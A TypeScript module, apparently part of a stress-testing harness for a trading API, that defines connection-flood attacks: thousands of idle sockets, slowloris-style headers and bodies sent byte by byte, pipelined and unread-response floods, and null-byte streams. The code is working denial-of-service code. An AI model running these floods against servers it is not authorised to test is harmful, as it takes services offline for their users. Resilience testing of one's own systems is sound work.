import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import type { Attack } from '../attack.ts';
import { flood, keep, type Target } from '../flood.ts';

const time = 'GET /api/time.html HTTP/1.1\r\nHost: a\r\n\r\n';
const order =
  'POST /api/trade/create.html HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n';
/** Requests for pages of about half a MiB, whose answers are not read. */
const large = 'GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /api/openapi.json HTTP/1.1\r\nHost: a\r\n\r\n';

/** Returns null if the server refuses or the system has no more sockets. */
async function dial({ url, from }: Target): Promise<Socket | null> {
  const { hostname: host, port } = new URL(url);
  const socket = connect({ host, port: Number(port), localAddress: from });
  socket.on('error', () => undefined);
  const isOpen = await Promise.race([
    once(socket, 'connect').then(
      () => true,
      () => false,
    ),
    new Promise<false>((resolve) => socket.once('close', () => resolve(false))),
  ]);
  return isOpen ? socket : null;
}

const gone = (socket: Socket, signal: AbortSignal): Promise<unknown> =>
  new Promise((resolve) => {
    if (socket.destroyed || signal.aborted) resolve(null);
    socket.once('close', resolve);
    signal.addEventListener('abort', resolve, { once: true });
  });

interface Counts {
  readonly long: number;
  readonly short: number;
}

/** Opens connections, uses each, and waits until the server closes it. */
function holding(name: string, { long, short }: Counts, use: (socket: Socket, target: Target) => void): Attack {
  return flood(name, (target, world) =>
    keep(world.count(long, short), target.signal, async () => {
      target.tally.connections += 1;
      const socket = await dial(target);
      if (!socket) {
        target.tally.refused += 1;
        return;
      }
      use(socket, target);
      await gone(socket, target.signal);
      if (!target.signal.aborted) target.tally.refused += 1;
      socket.destroy();
    }),
  );
}

/** Sends a text byte by byte. */
function drip(socket: Socket, text: string): void {
  let sent = 0;
  const dripping = setInterval(() => {
    if (socket.destroyed || sent === text.length) clearInterval(dripping);
    else socket.write(text.charAt(sent++));
  }, 200);
}

/** Sends the same requests as fast as the server reads them. */
function pour(socket: Socket, requests: number, { signal, tally }: Target): void {
  const bytes = time.repeat(requests);
  const more = (): void => {
    for (let taken = true; taken && !socket.destroyed && !signal.aborted;) {
      taken = socket.write(bytes);
      tally.messages += requests;
    }
  };
  socket.on('drain', more);
  more();
}

/** Attacks by connections without a WebSocket. */
export const connectionFloods: readonly Attack[] = [
  holding('20,000 silent connections', { long: 20_000, short: 2_000 }, () => undefined),
  holding('headers byte by byte', { long: 1_000, short: 200 }, (socket) =>
    drip(socket, `${time.slice(0, -2)}X: ${'a'.repeat(1_000)}\r\n\r\n`),
  ),
  holding('bodies byte by byte', { long: 1_000, short: 200 }, (socket) => {
    socket.write(order);
    drip(socket, 'a'.repeat(2_000));
  }),
  holding('pipelined requests', { long: 50, short: 20 }, (socket, target) => {
    socket.resume();
    pour(socket, 1_000, target);
  }),
  holding('unread answers', { long: 400, short: 50 }, (socket, { tally }) => {
    socket.pause();
    socket.write(large.repeat(20));
    tally.messages += 40;
  }),
  holding('requests as fast as they are answered', { long: 100, short: 20 }, (socket, { tally }) => {
    const ask = (): void => {
      socket.write(time);
      tally.messages += 1;
    };
    socket.on('data', ask);
    ask();
  }),
  holding('connections closed immediately', { long: 200, short: 50 }, (socket) => socket.destroy()),
  holding('bytes that are not a request', { long: 100, short: 20 }, (socket) => {
    socket.resume();
    socket.write('\0'.repeat(16_000));
  }),
];
